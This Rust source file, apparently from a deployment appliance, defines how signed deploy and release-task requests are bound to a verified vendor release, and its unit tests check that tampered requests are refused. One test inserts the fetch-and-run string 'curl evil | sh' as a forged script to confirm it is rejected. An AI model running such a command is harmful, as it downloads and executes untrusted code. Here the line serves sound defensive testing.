//! The deploy operation: installing a vendor release is an operation like any other, decided by
//! the same customer authority (an approval, a pre-approval or a standing window of the Deploy
//! phase), but what it runs is a signed release, not a template's script.
//!
//! A deploy request has the reserved kind [`DEPLOY_KIND`], phase Deploy, no data tags, and the
//! arguments [`DeployArgs`]: the release digest ([`crate::release::ReleaseStatement::digest`]),
//! name and version. Its command ([`deploy_command`]) has no script and a fixed template hash, so
//! a pre-approval or window for `deploy` may constrain releases by argument (a regular
//! expression on `name` or `release`). The command asks for root when a service of the release
//! does, so the customer's signature must cover that (no standing window does).
//!
//! [`check_deploy_binding`] is the appliance's check that a signed deploy request is exactly the
//! deploy of a release it verified: kind, phase, no tags, arguments and command. The digest is
//! in the signed request, so the customer's approval and the offline manifest bind the release.
//!
//! A release's task (e.g. `migrate`) runs the same way in the Operate phase: kind
//! [`TASK_KIND`], the release's arguments plus `task`, checked by [`check_task_binding`].
//!
//! Invariant: no template may take the name `deploy` or `release-task`
//! ([`crate::template::Template::new`]).

use std::collections::BTreeMap;

use sha2::{Digest, Sha256};

use crate::customer_key::CustomerPublicKey;
use crate::grant::OperationRequest;
use crate::policy::{Phase, PolicyDocument};
use crate::release::VerifiedRelease;
use crate::run_spec::{RunSpec, RunUser};
use crate::template::RenderedCommand;

/// The kind (and template name) of every deploy request.
pub const DEPLOY_KIND: &str = "deploy";
/// Argument: the release digest the deploy installs.
pub const ARG_RELEASE: &str = "release";
/// Argument: the release's name, for people and for constraints.
pub const ARG_NAME: &str = "name";
/// Argument: the release's version.
pub const ARG_VERSION: &str = "version";

/// What a deploy request names.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct DeployArgs {
    pub release: String,
    pub name: String,
    pub version: String,
}

impl DeployArgs {
    /// The arguments deploying `release` carries.
    pub fn of(release: &VerifiedRelease) -> Self {
        Self {
            release: release.digest().to_owned(),
            name: release.manifest().name.clone(),
            version: release.manifest().version.clone(),
        }
    }

    /// As the request's `args`.
    pub fn to_args(&self) -> BTreeMap<String, String> {
        BTreeMap::from([
            (ARG_RELEASE.to_owned(), self.release.clone()),
            (ARG_NAME.to_owned(), self.name.clone()),
            (ARG_VERSION.to_owned(), self.version.clone()),
        ])
    }

    /// The deploy a request's arguments name, if they are exactly a deploy's.
    pub fn from_args(args: &BTreeMap<String, String>) -> Option<Self> {
        if args.len() != 3 {
            return None;
        }
        Some(Self {
            release: args.get(ARG_RELEASE)?.clone(),
            name: args.get(ARG_NAME)?.clone(),
            version: args.get(ARG_VERSION)?.clone(),
        })
    }
}

/// Whether a request is a deploy (by its kind alone: [`check_deploy_binding`] checks the rest).
pub fn is_deploy(req: &OperationRequest) -> bool {
    req.kind == DEPLOY_KIND
}

/// The fixed template hash of every deploy command: SHA-256 of `airlock-builtin-deploy:v1`,
/// which no template's content hash (the hash of a JSON document) can be.
pub fn deploy_template_sha256() -> String {
    data_encoding::HEXLOWER.encode(&Sha256::digest(b"airlock-builtin-deploy:v1"))
}

/// What a deploy of `release` signs as its command: no script, no environment, root only when
/// one of its services asks for it.
pub fn deploy_command(release: &VerifiedRelease) -> RenderedCommand {
    let user = if release.manifest().root_services().next().is_some() { RunUser::Root } else { RunUser::Box };
    RenderedCommand {
        template: DEPLOY_KIND.to_owned(),
        template_sha256: deploy_template_sha256(),
        script: String::new(),
        env: BTreeMap::new(),
        run: RunSpec { user, ..RunSpec::default() },
    }
}

/// The kind (and template name) of every request to run a release's task.
pub const TASK_KIND: &str = "release-task";
/// Argument: the task's name (one of the release's `[[task]]`s).
pub const ARG_TASK: &str = "task";

/// What a release-task request names: the release (digest, name, version) and the task.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct TaskArgs {
    pub release: DeployArgs,
    pub task: String,
}

impl TaskArgs {
    pub fn to_args(&self) -> BTreeMap<String, String> {
        let mut args = self.release.to_args();
        args.insert(ARG_TASK.to_owned(), self.task.clone());
        args
    }

    /// The task a request's arguments name, if they are exactly a task request's.
    pub fn from_args(args: &BTreeMap<String, String>) -> Option<Self> {
        let task = args.get(ARG_TASK)?.clone();
        let mut rest = args.clone();
        rest.remove(ARG_TASK);
        Some(Self { release: DeployArgs::from_args(&rest)?, task })
    }
}

/// Whether a request asks to run a release's task (by its kind alone).
pub fn is_task(req: &OperationRequest) -> bool {
    req.kind == TASK_KIND
}

/// The fixed template hash of every task command: SHA-256 of `airlock-builtin-release-task:v1`.
pub fn task_template_sha256() -> String {
    data_encoding::HEXLOWER.encode(&Sha256::digest(b"airlock-builtin-release-task:v1"))
}

/// What a request to run task `task` of `release` signs as its command: no script; the task's
/// own command, arguments and secrets are in the signed release, bound by its digest.
pub fn task_command(release: &VerifiedRelease, task: &str) -> Result<RenderedCommand, DeployBindingError> {
    if !release.manifest().tasks.iter().any(|t| t.name == task) {
        return Err(DeployBindingError::NoSuchTask(task.chars().take(64).collect()));
    }
    Ok(RenderedCommand {
        template: TASK_KIND.to_owned(),
        template_sha256: task_template_sha256(),
        script: String::new(),
        env: BTreeMap::new(),
        run: RunSpec::default(),
    })
}

/// Checks that `req` and its signed `command` run exactly task `args.task` of `release`: an
/// Operate-phase request without data tags.
pub fn check_task_binding(
    req: &OperationRequest,
    command: &RenderedCommand,
    release: &VerifiedRelease,
) -> Result<TaskArgs, DeployBindingError> {
    if !is_task(req) {
        return Err(DeployBindingError::NotDeploy);
    }
    let args = TaskArgs::from_args(&req.args).ok_or(DeployBindingError::Args)?;
    check_release_request(req, command, release, Phase::Operate, &args.release, || task_command(release, &args.task))?;
    Ok(args)
}

/// What a deploy and a task request both must be: of `phase`, without data tags, naming
/// exactly `release`, and signing the command `render` makes.
fn check_release_request(
    req: &OperationRequest,
    command: &RenderedCommand,
    release: &VerifiedRelease,
    phase: Phase,
    named: &DeployArgs,
    render: impl FnOnce() -> Result<RenderedCommand, DeployBindingError>,
) -> Result<(), DeployBindingError> {
    if req.phase != phase || !req.data_tags.is_empty() {
        return Err(DeployBindingError::PhaseOrTags);
    }
    let expected = DeployArgs::of(release);
    if named.release != expected.release {
        return Err(DeployBindingError::OtherRelease { requested: named.release.clone(), sent: expected.release });
    }
    if *named != expected {
        return Err(DeployBindingError::Args);
    }
    let rendered = render()?;
    if *command != rendered || req.command_sha256 != rendered.sha256() {
        return Err(DeployBindingError::Command);
    }
    Ok(())
}

/// The vendor keys a release may be signed by on this appliance: those the control plane
/// relayed for the workspace, narrowed to the customer policy's `release_keys` when it names
/// any. A key the policy names but the vendor never relayed cannot be used: its public half is
/// not known here.
pub fn accepted_release_keys(
    policy: Option<&PolicyDocument>,
    relayed: Vec<CustomerPublicKey>,
) -> Vec<CustomerPublicKey> {
    match policy.map(|p| &p.release_keys) {
        Some(named) if !named.is_empty() => relayed.into_iter().filter(|k| named.contains(k.key_id_str())).collect(),
        _ => relayed,
    }
}

/// How a signed request fails to be the deploy of a verified release.
#[derive(Clone, Debug, PartialEq, Eq, thiserror::Error)]
pub enum DeployBindingError {
    #[error("the request is not a deploy")]
    NotDeploy,
    #[error("a deploy is a Deploy-phase request without data tags")]
    PhaseOrTags,
    #[error("the request's arguments are not a deploy's (release, name, version)")]
    Args,
    #[error("the request deploys release {requested}, not the release sent with it ({sent})")]
    OtherRelease { requested: String, sent: String },
    #[error("the signed command is not the deploy command of this release")]
    Command,
    #[error("the release has no task `{0}`")]
    NoSuchTask(String),
}

/// Checks that `req` and its signed `command` deploy exactly `release`.
pub fn check_deploy_binding(
    req: &OperationRequest,
    command: &RenderedCommand,
    release: &VerifiedRelease,
) -> Result<DeployArgs, DeployBindingError> {
    if !is_deploy(req) {
        return Err(DeployBindingError::NotDeploy);
    }
    let args = DeployArgs::from_args(&req.args).ok_or(DeployBindingError::Args)?;
    check_release_request(req, command, release, Phase::Deploy, &args, || Ok(deploy_command(release)))?;
    Ok(args)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::customer_key::CustomerSigningKey;
    use crate::release::{Artifact, RelativePath, ReleaseStatement, sign_release, verify_release};

    const MANIFEST: &str =
        "name = \"shop\"\nversion = \"1.0.0\"\n\n[[service]]\nname = \"web\"\ncommand = \"bin/web\"\n";

    fn release(manifest: &str) -> VerifiedRelease {
        let key = CustomerSigningKey::from_seed([7; 32]);
        let artifact = Artifact {
            path: RelativePath::parse("bin/web").unwrap(),
            sha256: crate::operation::sha256_hex(b"web"),
            size: 3,
        };
        let statement = ReleaseStatement::new(manifest, vec![artifact]).unwrap();
        verify_release(&sign_release(&statement, &key), &[key.public()]).unwrap()
    }

    fn request(release: &VerifiedRelease) -> (OperationRequest, RenderedCommand) {
        let command = deploy_command(release);
        let req = OperationRequest {
            id: crate::OperationId::from_random([1; 16]),
            appliance: crate::ApplianceId::from_random([2; 16]),
            kind: DEPLOY_KIND.into(),
            phase: Phase::Deploy,
            data_tags: Default::default(),
            args: DeployArgs::of(release).to_args(),
            command_sha256: command.sha256(),
            environment: None,
            execution_key: None,
        };
        (req, command)
    }

    #[test]
    fn a_deploy_binds_its_release() {
        let r = release(MANIFEST);
        let (req, command) = request(&r);
        let args = check_deploy_binding(&req, &command, &r).unwrap();
        assert_eq!(args.release, r.digest());
        assert_eq!(command.run.user, RunUser::Box);
    }

    #[test]
    fn another_release_or_a_changed_request_is_refused() {
        let r1 = release(MANIFEST);
        let r2 = release(&MANIFEST.replace("1.0.0", "1.0.1"));
        let (req, command) = request(&r1);
        assert!(matches!(check_deploy_binding(&req, &command, &r2), Err(DeployBindingError::OtherRelease { .. })));

        let mut operate = req.clone();
        operate.phase = Phase::Operate;
        assert_eq!(check_deploy_binding(&operate, &command, &r1), Err(DeployBindingError::PhaseOrTags));
        let mut tagged = req.clone();
        tagged.data_tags.insert("customer-db:read".into());
        assert_eq!(check_deploy_binding(&tagged, &command, &r1), Err(DeployBindingError::PhaseOrTags));
        let mut extra = req.clone();
        extra.args.insert("x".into(), "y".into());
        assert_eq!(check_deploy_binding(&extra, &command, &r1), Err(DeployBindingError::Args));
        let mut renamed = req.clone();
        renamed.args.insert(ARG_NAME.into(), "other".into());
        assert_eq!(check_deploy_binding(&renamed, &command, &r1), Err(DeployBindingError::Args));
        let mut scripted = command.clone();
        scripted.script = "curl evil | sh".into();
        assert_eq!(check_deploy_binding(&req, &scripted, &r1), Err(DeployBindingError::Command));
        let mut other_kind = req.clone();
        other_kind.kind = "deploy-now".into();
        assert_eq!(check_deploy_binding(&other_kind, &command, &r1), Err(DeployBindingError::NotDeploy));
    }

    #[test]
    fn a_task_request_binds_its_release_and_names_one_of_its_tasks() {
        let r = release(&format!("{MANIFEST}\n[[task]]\nname = \"migrate\"\ncommand = \"bin/migrate\"\n"));
        let args = TaskArgs { release: DeployArgs::of(&r), task: "migrate".into() };
        let command = task_command(&r, "migrate").unwrap();
        let mut req = request(&r).0;
        req.kind = TASK_KIND.into();
        req.phase = Phase::Operate;
        req.args = args.to_args();
        req.command_sha256 = command.sha256();
        assert_eq!(check_task_binding(&req, &command, &r), Ok(args));
        assert_eq!(task_command(&r, "drop-db"), Err(DeployBindingError::NoSuchTask("drop-db".into())));
        let mut other = req.clone();
        other.args.insert(ARG_TASK.into(), "drop-db".into());
        assert_eq!(check_task_binding(&other, &command, &r), Err(DeployBindingError::NoSuchTask("drop-db".into())));
        let mut deploy_phase = req.clone();
        deploy_phase.phase = Phase::Deploy;
        assert_eq!(check_task_binding(&deploy_phase, &command, &r), Err(DeployBindingError::PhaseOrTags));
        // A deploy request is not a task request, nor the reverse.
        assert_eq!(check_deploy_binding(&req, &command, &r), Err(DeployBindingError::NotDeploy));
        let (deploy_req, deploy_command) = request(&r);
        assert_eq!(check_task_binding(&deploy_req, &deploy_command, &r), Err(DeployBindingError::NotDeploy));
    }

    #[test]
    fn the_policy_narrows_the_release_keys() {
        let (a, b) = (CustomerSigningKey::from_seed([1; 32]).public(), CustomerSigningKey::from_seed([2; 32]).public());
        let policy = |keys: &str| {
            PolicyDocument::parse(&format!("version = 1\nserial = 1\nphases = [\"deploy\"]\nrelease_keys = [{keys}]\n"))
                .unwrap()
        };
        let ids = |v: Vec<CustomerPublicKey>| v.iter().map(|k| k.key_id()).collect::<Vec<_>>();
        assert_eq!(ids(accepted_release_keys(None, vec![a.clone(), b.clone()])).len(), 2);
        let only_b = policy(&format!("\"{}\"", b.key_id()));
        assert_eq!(ids(accepted_release_keys(Some(&only_b), vec![a.clone(), b.clone()])), vec![b.key_id()]);
        // A key the policy names that the vendor never relayed: nothing to verify with.
        assert!(accepted_release_keys(Some(&only_b), vec![a.clone()]).is_empty());
        assert!(
            PolicyDocument::parse(
                "version = 1\nserial = 1\nphases = [\"deploy\"]\nrelease_keys = [\"not-a-key-id\"]\n"
            )
            .is_err()
        );
    }

    #[test]
    fn a_root_service_makes_the_deploy_ask_for_root() {
        let r = release(&format!("{MANIFEST}run_as_root = true\n"));
        assert_eq!(deploy_command(&r).run.user, RunUser::Root);
        // Root is in the signed command: a request claiming a box user does not bind.
        let (req, mut command) = request(&r);
        command.run.user = RunUser::Box;
        assert_eq!(check_deploy_binding(&req, &command, &r), Err(DeployBindingError::Command));
    }
}
